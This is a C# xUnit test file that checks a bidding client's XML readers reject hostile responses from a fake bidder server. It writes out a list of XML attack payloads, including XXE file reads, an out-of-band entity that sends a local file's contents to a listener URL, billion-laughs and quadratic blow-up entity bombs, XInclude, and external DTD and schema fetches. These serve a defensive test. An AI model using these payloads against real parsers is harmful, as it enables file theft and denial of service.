using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text;
using Bidline.Adapters.Buyers;
using Bidline.Auctions;
using Bidline.Campaigns;
using Bidline.Connecting;
using Bidline.Tests.Auctions;
using Shouldly;
using Xunit;

namespace Bidline.Tests.Adapters.Buyers;

/// <summary>
/// XML that tries to make its reader open, fetch or grow something (reliability.md F29), sent by a real server to every
/// reader of XML. A canary listens for whoever follows an address, and a file holds a price that must never come out.
/// It weighs the memory of the process, and so runs when no other test does.
/// </summary>
[Collection(nameof(HostileBidderTests))]
public sealed class XmlSafetyTests : IDisposable
{
    private static readonly CancellationToken Stop = TestContext.Current.CancellationToken;

    private readonly BidderClient _client = new(
        new BidderClientSettings(), new AddressPolicy(allowPrivate: true), TimeProvider.System);

    private readonly TcpListener _canary = new(IPAddress.Loopback, 0);
    private readonly string _file = Path.GetTempFileName();

    public XmlSafetyTests()
    {
        _canary.Start();
        File.WriteAllText(_file, "99.00");
    }

    public static TheoryData<string, string> Attacks
    {
        get
        {
            var data = new TheoryData<string, string>();
            foreach (var reader in new[] { "boberdoo", "template" })
            {
                foreach (var attack in All.Keys) data.Add(reader, attack);
            }

            return data;
        }
    }

    private static Dictionary<string, string> All { get; } = new()
    {
        ["entity from a file"] = Bid("<!DOCTYPE response [<!ENTITY x SYSTEM \"file://{file}\">]>", "&x;"),
        ["entity over HTTP"] = Bid("<!DOCTYPE response [<!ENTITY x SYSTEM \"{canary}/x\">]>", "&x;"),
        ["external subset"] = Bid("<!DOCTYPE response SYSTEM \"{canary}/x.dtd\">", "99.00"),
        ["public identifier"] = Bid("<!DOCTYPE response PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"{canary}/x.dtd\">", "99.00"),
        ["parameter entity"] = Bid("<!DOCTYPE response [<!ENTITY % p SYSTEM \"{canary}/p\"> %p;]>", "99.00"),
        ["out of band"] = Bid(
            "<!DOCTYPE response [<!ENTITY % f SYSTEM \"file://{file}\"><!ENTITY % d \"<!ENTITY s SYSTEM '{canary}/?%f;'>\">%d;]>", "&s;"),
        ["inner entity"] = Bid("<!DOCTYPE response [<!ENTITY x \"99.00\">]>", "&x;"),
        ["billion laughs"] = Bid(Laughs(10), "&l9;"),
        ["quadratic blow-up"] = Bid($"<!DOCTYPE response [<!ENTITY q \"{new string('9', 20_000)}\">]>", string.Concat(Enumerable.Repeat("&q;", 5_000))),
        ["empty DTD"] = Bid("<!DOCTYPE response>", "99.00"),
        ["attribute defaults"] = Bid("<!DOCTYPE response [<!ATTLIST price amount CDATA \"99.00\">]>", ""),
        ["inclusion"] = Bid("", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file://{file}\"/>"),
        ["external schema"] = Bid("", "<a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"{canary}/x.xsd\"/>"),
        ["stylesheet"] = "<?xml-stylesheet type=\"text/xsl\" href=\"{canary}/x.xsl\"?><other/>",
        ["undeclared entity"] = Bid("", "&x;"),
        ["deep"] = string.Concat(Enumerable.Repeat("<a>", 8_000)) + string.Concat(Enumerable.Repeat("</a>", 8_000)),
        ["wide"] = Bid("", string.Concat(Enumerable.Repeat("<a/>", 9_000))),
        ["many attributes"] = Bid("", $"<a {string.Join(' ', Enumerable.Range(0, 4_000).Select(i => $"a{i}=\"1\""))}/>"),
        ["a name of 60 KB"] = $"<{new string('a', 60_000)}/>",
        ["UTF-7"] = "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-response+AD4-",
        ["XML 1.1"] = "<?xml version=\"1.1\"?><response><status>Matched</status><lead_id>1</lead_id><price>&#1;</price></response>",
        ["not closed"] = "<response><status>Matched</status><lead_id>1</lead_id><price>99.00",
        ["two documents"] = Bid("", "1") + Bid("", "99.00"),
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Hostile_XML_is_one_reason_and_opens_nothing(string reader, string attack)
    {
        var text = All[attack].Replace("{file}", _file).Replace("{canary}", $"http://{_canary.LocalEndpoint}");
        await using var bidder = HostileBidder.Saying(Answer(text));
        var watch = Stopwatch.StartNew();

        var answer = await AskAsync(reader, bidder.Url);

        answer.ShouldBeOfType<BidAnswer.Invalid>().Reason.Code.ShouldBe("error.invalid", text.Length.ToString());
        watch.ElapsedMilliseconds.ShouldBeLessThan(2000);
        _canary.Pending().ShouldBeFalse();
    }

    [Theory]
    [InlineData("boberdoo")]
    [InlineData("template")]
    public async Task Honest_XML_is_a_bid(string reader)
    {
        await using var bidder = HostileBidder.Saying(Answer(Bid("<?xml version=\"1.0\" encoding=\"utf-8\"?>", "31.50")));

        (await AskAsync(reader, bidder.Url)).ShouldBeOfType<BidAnswer.Bid>().Price.Units.ShouldBe(31.5m);
    }

    [Fact]
    public async Task A_hundred_hostile_answers_leave_no_memory_behind()
    {
        await using var bidder = HostileBidder.Saying(Answer(All["billion laughs"]));
        await AskAsync("boberdoo", bidder.Url);
        var before = GC.GetTotalMemory(forceFullCollection: true);

        for (var i = 0; i < 100; i++) await AskAsync(i % 2 == 0 ? "boberdoo" : "template", bidder.Url);

        (GC.GetTotalMemory(forceFullCollection: true) - before).ShouldBeLessThan(8 << 20);
    }

    public void Dispose()
    {
        _client.Dispose();
        _canary.Stop();
        File.Delete(_file);
    }

    private async Task<BidAnswer> AskAsync(string reader, string url)
    {
        var terms = reader == "boberdoo"
            ? new BidderTerms("boberdoo", new Uri(url), TimeSpan.FromSeconds(2), null, ShareCaller.Never)
            : MarketBidder.Of($$"""
                { "protocol": "template", "url": "{{url}}", "answer": {
                  "format": "xml", "accept": { "at": "//status", "is": "Matched" }, "bid": "//price | //price/@amount", "bid_id": "//lead_id" } }
                """);
        var protocol = BuyerProtocols.All.Single(one => one.Name == reader);
        var order = Some.Order([Some.Bidder("b", url)]);
        var request = new BidRequests(order, Some.Settings, new CallerHash(new byte[32])).For(
            order.Candidacies[0].Buyer, terms, TimeSpan.FromMilliseconds(100));
        return (await _client.AskAsync(protocol, request, terms).WaitAsync(TimeSpan.FromSeconds(5), Stop)).Answer;
    }

    private static string Answer(string xml) =>
        $"HTTP/1.1 200 OK\r\nContent-Type: application/xml\r\nContent-Length: {Encoding.UTF8.GetByteCount(xml)}\r\n\r\n{xml}";

    private static string Bid(string before, string price) =>
        $"{before}<response><status>Matched</status><lead_id>1</lead_id><price>{price}</price></response>";

    private static string Laughs(int levels) => "<!DOCTYPE response [<!ENTITY l0 \"9\">" + string.Concat(
        Enumerable.Range(1, levels - 1).Select(i => $"<!ENTITY l{i} \"{string.Concat(Enumerable.Repeat($"&l{i - 1};", 10))}\">")) + "]>";
}
